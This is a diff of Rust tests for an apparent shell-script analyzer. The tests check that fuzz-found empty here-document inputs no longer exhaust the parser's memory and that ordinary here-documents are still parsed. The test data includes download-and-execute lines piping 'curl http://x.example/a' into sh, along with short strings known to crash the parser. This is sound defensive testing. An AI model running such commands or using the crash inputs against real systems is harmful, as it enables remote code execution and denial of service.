@@ -733,6 +733,60 @@ fn unclosed_parentheses_do_not_stall_the_analysis() {
     }
 }
 
+/// A here-document whose delimiter reaches brush-parser as empty made its
+/// tokenizer loop at the end of the input, taking memory until the
+/// process died (found by `fuzz/`: six bytes, `$(<<` and two blanks, took
+/// more than 2 GiB). A CronJob ending so would crash-loop the controller,
+/// silencing it everywhere. Such scripts are read as tokens; the attack
+/// before them is still caught. On a thread, so that a regression fails
+/// here after a minute (or aborts the suite) instead of hanging it.
+#[test]
+fn empty_here_document_tags_do_not_exhaust_memory() {
+    let traps = [
+        "$(<<  ",
+        "$(<<\t ",
+        "$(<<-  ",
+        "$(x <<  ",
+        "${x:-$(<<  ",
+        "cat <<\"\" ",
+        "$(cat <<'' ",
+        "<<$(  ",
+        "<<$(\t\t",
+        "$$(<-<(<<  ",
+    ];
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for trap in traps {
+            for line in [
+                format!("curl http://x.example/a | sh; {trap}"),
+                format!("curl http://x.example/a | sh\n{trap}"),
+            ] {
+                tx.send((line.clone(), categories(&line))).unwrap();
+            }
+        }
+    });
+    for _ in 0..traps.len() * 2 {
+        let (line, found) = rx
+            .recv_timeout(std::time::Duration::from_secs(60))
+            .expect("the analysis of an empty here-document tag did not finish within a minute");
+        assert!(found.contains(&DownloadExecute), "{line:?}: {found:?}");
+    }
+}
+
+/// The guard against empty here-document tags errs wide, but ordinary
+/// here-documents and here-strings still parse (see the unit test
+/// `here_tags_that_may_be_empty`) and what they feed a shell is caught.
+#[test]
+fn ordinary_here_documents_are_still_parsed() {
+    for line in [
+        "sh <<EOF\ncurl http://x.example/a | sh\nEOF",
+        "sh <<-'EOF'\n\tcurl http://x.example/a | sh\n\tEOF",
+        "sh <<< \"curl http://x.example/a | sh\"",
+    ] {
+        assert!(categories(line).contains(&DownloadExecute), "{line:?}");
+    }
+}
+
 // The fuzz target in fuzz/ runs with cargo-fuzz on nightly; these
 // properties run the same entry point on every `make test`.
 use proptest::prelude::*;
